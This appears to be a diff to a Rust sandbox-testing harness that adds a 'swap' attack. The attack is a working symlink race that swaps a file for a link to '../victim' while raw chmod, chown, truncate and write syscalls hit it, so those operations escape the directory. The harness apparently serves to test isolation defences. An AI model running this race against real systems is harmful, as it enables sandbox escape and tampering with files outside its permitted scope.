@@ -31,6 +31,7 @@ fn main() {
         "exhaust" => exhaust(),
         "fuzz" => fuzz(std::env::args().nth(2).and_then(|n| n.parse().ok()).unwrap_or(1)),
         "escape" => escape(),
+        "swap" => swap(&std::env::args().nth(2).unwrap_or_default()),
         _ => {
             eprintln!("unknown attack {name:?}");
             std::process::exit(2);
@@ -461,6 +462,33 @@ fn fuzz(seconds: u64) {
         calls += 200;
     }
     println!("fuzzed: up to {calls} calls");
+}
+
+/// In a directory that is the host's: puts links that lead out of it in the place of a file, while that is changed by its name.
+fn swap(dir: &str) {
+    std::env::set_current_dir(dir).unwrap();
+    let swapping = std::thread::spawn(|| {
+        let deadline = now() + 4_000_000_000;
+        while now() < deadline {
+            let _ = std::fs::write("f", "");
+            let _ = std::os::unix::fs::symlink("../victim", "l");
+            let _ = std::fs::rename("l", "f");
+            let _ = std::fs::write("n", "");
+            let _ = std::fs::rename("n", "f");
+        }
+    });
+    while !swapping.is_finished() {
+        let times = [timespec { tv_sec: 1, tv_nsec: 0 }, timespec { tv_sec: 1, tv_nsec: 0 }];
+        let _ = sys!(SYS_chmod, c"f", 0o777);
+        let _ = sys!(SYS_truncate, c"f", 0);
+        let _ = sys!(SYS_chown, c"f", 1, 1);
+        let _ = sys!(SYS_utimensat, AT_FDCWD, c"f", times.as_ptr(), 0);
+        if let Ok(fd) = sys!(SYS_open, c"f", O_WRONLY | O_TRUNC) {
+            let _ = sys!(SYS_write, fd, &b"reached"[..], 7);
+            let _ = sys!(SYS_close, fd);
+        }
+    }
+    println!("swapped");
 }
 
 /// Looks for the host.
